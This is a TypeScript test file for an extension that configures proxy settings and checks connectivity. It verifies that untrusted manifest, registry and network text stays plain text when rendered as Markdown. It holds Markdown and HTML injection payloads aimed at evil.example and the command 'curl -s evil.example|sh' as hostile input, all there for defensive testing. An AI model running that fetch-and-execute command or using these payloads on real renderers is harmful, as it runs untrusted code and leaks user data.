// Issue 18, low: Markdown made from manifest values, registry values and network answers stays text in hovers,
// Preview Apply and the connectivity report. Rendered with markdown-it (the renderer of VS Code's Markdown
// preview) with HTML and linkify on, the strictest reading: no image, link, HTML element or code span appears
// that the product did not write.
import * as assert from 'assert';
import { buildPlan } from '../../src/core/apply/plan';
import { hover } from '../../src/core/language/hover';
import { markdownCode, markdownFence, markdownText } from '../../src/core/text/markdown';
import { CURRENT_USER_CONNECTIONS, accountConnectionsKey } from '../../src/core/wininet/accounts';
import { encodeConnectionSettings, newConnectionSettings } from '../../src/core/wininet/connectionSettings';
import { encodeManifestText } from '../../src/core/wininet/fromManifest';
import { REG_BINARY } from '../../src/core/wininet/regFile';
import { planMarkdown } from '../../src/extension/apply/planMarkdown';
import { markdownReport } from '../../src/extension/connectivity/markdownReport';
import { MemoryRegistry } from './support/memoryRegistry';

// markdown-it ships no types here; the two calls used.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const markdownIt = require('markdown-it') as (options: object) => { render(s: string): string; renderInline(s: string): string };
const md = markdownIt({ html: true, linkify: true });

const PAYLOADS = [
  '![x](https://evil.example/p.png)',
  '[click](https://evil.example/)',
  '<img src="https://evil.example/p.png">',
  'https://evil.example/x',
  'www.evil.example',
  'evil.example',
  '`code` and ``more``',
  '<https://evil.example/>',
  '&lt;img&gt;',
  'line\nbreak\r\nand\u2028separator',
  '| a | b |',
  '# heading',
];

function decode(html: string): string {
  return html.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
}

/** Elements in rendered HTML other than those `allowed`. */
function foreignElements(html: string, allowed: string[]): string[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map((m) => m[1].toLowerCase()).filter((tag) => !allowed.includes(tag));
}

describe('Markdown from untrusted text', () => {
  it('markdownText renders as exactly its text (line breaks as spaces): no image, link, HTML or code', () => {
    for (const payload of PAYLOADS) {
      const html = md.renderInline(markdownText(payload));
      assert.deepStrictEqual(foreignElements(html, []), [], `${payload} → ${html}`);
      assert.strictEqual(decode(html), payload.replace(/[\r\n\u2028]/g, ' '), payload);
    }
  });

  it('markdownCode is one code span holding the text, whatever backticks it contains', () => {
    for (const payload of [...PAYLOADS, '`', '``x``', 'a ``` b']) {
      const html = md.renderInline(markdownCode(payload));
      assert.deepStrictEqual(foreignElements(html, ['code']), [], `${payload} → ${html}`);
      assert.strictEqual((html.match(/<code>/g) ?? []).length, 1, html);
      assert.strictEqual(decode(html.replace(/^<code>|<\/code>$/g, '')), payload.replace(/[\r\n\u2028]/g, ' '), payload);
    }
  });

  it('markdownFence keeps text with ``` lines inside one code block', () => {
    const text = 'a\n```\n![x](https://evil.example/p.png)\n````\nb';
    const fence = markdownFence(text);
    const html = md.render(`${fence}text\n${text}\n${fence}\n`);
    assert.deepStrictEqual(foreignElements(html, ['pre', 'code']), [], html);
    assert.strictEqual((html.match(/<pre>/g) ?? []).length, 1);
  });

  it('hover: an allow entry with an image or link shows neither', () => {
    for (const payload of ['![x](https://evil.example/p.png).atp.azure.com', '[x](https://evil.example/).atp.azure.com', '<img src=https://evil.example/p.png>.atp.azure.com', '*.![x](https://evil.example/p.png).atp.azure.com']) {
      const text = JSON.stringify({ version: 1, instance: '![i](https://evil.example/i.png)', region: 'europe', firewall: { port: 443, allow: [payload] } });
      const info = hover(text, text.indexOf(JSON.stringify(payload)) + 2);
      assert.ok(info, payload);
      const html = md.render(info.markdown);
      assert.deepStrictEqual(foreignElements(html, ['p', 'strong', 'code']), [], `${payload} → ${html}`);
    }
  });

  it('Preview Apply: proxy values from the registry and the manifest, and the backup folder, stay text', async () => {
    const hostile = '`![x](https://evil.example/p.png)` <img src=https://evil.example/q.png>';
    const reg = new MemoryRegistry();
    reg.set(CURRENT_USER_CONNECTIONS, 'DefaultConnectionSettings', { type: REG_BINARY, data: encodeConnectionSettings(newConnectionSettings({ flags: 3, counter: 1, proxyServer: 'proxy.contoso.com:8080', bypass: hostile })) });
    reg.set(accountConnectionsKey('LocalSystem'), 'DefaultConnectionSettings', { type: REG_BINARY, data: encodeConnectionSettings(newConnectionSettings({ flags: 3, counter: 1, proxyServer: hostile })) });
    const e = encodeManifestText(JSON.stringify({ version: 1, instance: 'contoso', region: 'europe', proxy: { mode: 'static', server: 'proxy.contoso.com:8080' }, registry: { source: 'currentUser', targets: ['LocalSystem'] }, firewall: { port: 443, allow: [] } }));
    if (!e.ok) throw new Error(e.reason);
    const plan = await buildPlan(reg, { manifest: e.manifest, encoded: e.settings, backupDir: '/b/```\n![x](https://evil.example/d.png)', now: new Date('2026-11-30T12:00:00Z'), fileExists: () => false });
    const markdown = planMarkdown(plan, '![m](https://evil.example/m.png).atpproxy.json', `described ${hostile}\n\`\`\`\n![x](https://evil.example/e.png)`);
    const html = md.render(markdown);
    assert.deepStrictEqual(foreignElements(html, ['h1', 'h2', 'p', 'strong', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'ul', 'li', 'pre']), [], html);
    assert.match(html, /&lt;img src=https:\/\/evil\.example\/q\.png&gt;/);
  });

  it('the connectivity report: manifest name, hosts, proxy, certificate issuer and proxy answer stay text', () => {
    const evil = '![x](https://evil.example/p.png) <img src=x> [l](https://evil.example/)';
    const markdown = markdownReport({ results: [{ host: `${evil}.atp.azure.com`, port: 443, status: 'intercepted', ms: 5, via: `${evil}:8080`, issuer: `CN=${evil}`, detail: `proxy said ${evil}\n# injected heading`, kind: 'sensorApi' }], cancelled: false, ms: 5 }, `${evil}\ncurl -s evil.example|sh\n#.atpproxy.json`, new Date('2026-11-30T12:00:00Z'), `via ${evil}`);
    const html = md.render(markdown);
    assert.deepStrictEqual(foreignElements(html, ['h1', 'h2', 'p', 'strong', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'ul', 'li']), [], html);
    assert.strictEqual((html.match(/<h1>/g) ?? []).length, 1);
    assert.doesNotMatch(markdown, /^curl -s evil\.example\|sh$/m);
  });
});
